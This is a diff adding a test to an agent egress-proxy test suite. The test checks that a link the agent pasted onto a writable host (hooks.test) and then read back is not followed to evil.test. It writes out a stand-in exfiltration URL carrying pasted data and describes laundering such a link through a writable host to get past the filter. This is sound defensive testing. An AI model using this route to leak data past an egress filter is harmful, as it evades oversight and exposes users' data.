@@ -178,6 +178,12 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('blog.test')}/from-zstd?id=1`)).status, 200, 'its link is followed');
   // A followed link's Location is that link's: a page no answer served has none to give.
   t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('blog.test')}/unserved?to=${encodeURIComponent(leak)}`)).status, 403);
+  // Twelfth pass: a host the agent may POST to (hooks.test) serves back what it stored there; a
+  // link it pasted came back as a link that host served, and was followed. Such a host is no
+  // browsing source.
+  t.equal((await viaCurl(moverProxy, 'POST', `${web.origin('hooks.test')}/paste`, `notes: ${web.origin('evil.test')}/c?d=pasted-4242`)).status, 200);
+  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('hooks.test')}/paste`)).status, 200);
+  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}/c?d=pasted-4242`)).status, 403, 'a link the agent stored on a host it writes to is not followed');
   t.notOk(web.hits.some((h) => h.host === 'evil.test'), 'evil.test was never reached');
 });
 
